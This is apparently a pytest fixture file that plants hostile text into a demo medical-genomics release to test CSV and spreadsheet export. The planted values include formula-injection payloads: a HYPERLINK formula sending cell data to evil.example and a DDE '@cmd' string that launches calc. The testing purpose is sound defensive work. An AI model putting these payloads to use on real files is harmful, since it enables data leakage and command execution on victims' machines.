"""One small demo release for the export tests, with hostile text planted in diagnoses, synced into a cache.

The oracles of these tests read the raw release (FHIR NDJSON and Parquet as the generator wrote them), never the
cache or the code under test.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from kfexplorer.demo.release import generate_release
from kfexplorer.sync.engine import sync_release

KF = "https://kidsfirstdrc.org/"
MONDO_SYSTEM = "http://purl.obolibrary.org/obo/mondo.owl"

# Diagnosis texts planted in the release: formulas, quotes, commas, newlines, tabs, non-ASCII, a number.
HOSTILE_TEXTS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    'He said "hi", then left\nand a second line',
    "Ünïcödé — 脑瘤, ✓ 'quoted'",
    "-12",
)
# A sample id planted in one carried call (release data is untrusted input, variant Parquet included).
HOSTILE_SAMPLE_ID = "=SUM(A1:A9)"


@dataclass
class RawRelease:
    """Facts read straight from the raw release."""

    root: Path
    cache: Path
    release_id: str
    sex: dict[str, str] = field(default_factory=dict)  # participant_id -> gender
    patient_ids: dict[str, str] = field(default_factory=dict)  # participant_id -> Patient.id
    planted: dict[str, str] = field(default_factory=dict)  # Condition.id -> planted code.text
    planted_call: tuple[str, str] = ("", "")  # (participant_id, locus_id) of the call with HOSTILE_SAMPLE_ID
    files: list[dict[str, Any]] = field(default_factory=list)  # data file DocumentReferences, flattened
    occurrences: list[dict[str, Any]] = field(default_factory=list)
    variants: dict[str, dict[str, Any]] = field(default_factory=dict)
    consequences: dict[str, list[dict[str, Any]]] = field(default_factory=dict)


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def _identifier(resource: dict[str, Any], suffix: str) -> str | None:
    for ident in resource.get("identifier", []):
        if ident.get("system") == KF + suffix:
            return str(ident["value"])
    return None


def _rewrite_release_file(root: Path, path: Path, data: bytes) -> None:
    """Replace a release file and keep release.json's sha256 / size true (sync verifies them)."""
    path.write_bytes(data)
    manifest_path = root / "release.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    rel = path.relative_to(root).as_posix()
    if rel in manifest.get("files", {}):
        manifest["files"][rel] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    manifest_path.write_text(json.dumps(manifest, indent=2), encoding="utf-8")


def _plant_hostile_call(root: Path) -> tuple[str, str]:
    """Give the first carried call of the first occurrences file the sample id HOSTILE_SAMPLE_ID."""
    path = sorted((root / "variants" / "occurrences").rglob("*.parquet"))[0]
    table = pq.read_table(path)
    rows = table.to_pylist()
    index = next(i for i, row in enumerate(rows) if row["has_alt"])
    samples = table.column("sample_id").to_pylist()
    samples[index] = HOSTILE_SAMPLE_ID
    position = table.schema.get_field_index("sample_id")
    table = table.set_column(position, table.schema.field(position), pa.array(samples, pa.string()))
    sink = pa.BufferOutputStream()
    pq.write_table(table, sink)
    _rewrite_release_file(root, path, sink.getvalue().to_pybytes())
    return str(rows[index]["participant_id"]), str(rows[index]["locus_id"])


def _plant_hostile_texts(root: Path) -> dict[str, str]:
    """Rewrite code.text of the first MONDO-coded Conditions; keep release.json's sha256 / size true."""
    path = next((root / "fhir" / "Condition").glob("*.ndjson"))
    resources = _lines(path)
    planted: dict[str, str] = {}
    texts = iter(HOSTILE_TEXTS)
    for resource in resources:
        codings = resource.get("code", {}).get("coding", [])
        if any(c.get("system") == MONDO_SYSTEM for c in codings):
            text = next(texts, None)
            if text is None:
                break
            resource["code"]["text"] = text
            planted[str(resource["id"])] = text
    _rewrite_release_file(root, path, "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in resources).encode())
    return planted


def _read_parquet(folder: Path) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for path in sorted(folder.rglob("*.parquet")):
        table = pq.read_table(path)
        part = {piece.split("=")[0]: piece.split("=")[1] for piece in path.relative_to(folder).parts if "=" in piece}
        for row in table.to_pylist():
            rows.append({**part, **row})
    return rows


def read_raw(root: Path, cache: Path, planted: dict[str, str]) -> RawRelease:
    raw = RawRelease(root, cache, json.loads((root / "release.json").read_text())["release_id"], planted=planted)
    for patient in _lines(next((root / "fhir" / "Patient").glob("*.ndjson"))):
        pid = _identifier(patient, "participant_id") or str(patient["id"])
        raw.sex[pid] = str(patient.get("gender"))
        raw.patient_ids[pid] = str(patient["id"])
    by_patient_id = {v: k for k, v in raw.patient_ids.items()}
    for path in (root / "fhir" / "DocumentReference").glob("*.ndjson"):
        for doc in _lines(path):
            file_id = _identifier(doc, "file_id")
            if file_id is None:
                continue
            attachment = doc["content"][0]["attachment"]
            raw.files.append({"file_id": file_id, "file_name": attachment.get("title"), "url": attachment.get("url"),
                              "size": attachment.get("size"), "hash": attachment.get("hash"),
                              "participant_id": by_patient_id.get(doc["subject"]["reference"].split("/")[1])})
    raw.occurrences = _read_parquet(root / "variants" / "occurrences")
    raw.variants = {row["locus_id"]: row for row in _read_parquet(root / "variants" / "variants")}
    for row in _read_parquet(root / "variants" / "consequences"):
        raw.consequences.setdefault(row["locus_id"], []).append(row)
    return raw


@pytest.fixture(scope="session")
def raw_release(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RawRelease]:
    base = tmp_path_factory.mktemp("export-release")
    root, cache = base / "release", base / "cache"
    generate_release(root, participants=40, occurrences=5_000, seed=11, imaging=False, force=True)
    planted = _plant_hostile_texts(root)
    planted_call = _plant_hostile_call(root)
    sync_release(str(root), cache)
    raw = read_raw(root, cache, planted)
    raw.planted_call = planted_call
    yield raw
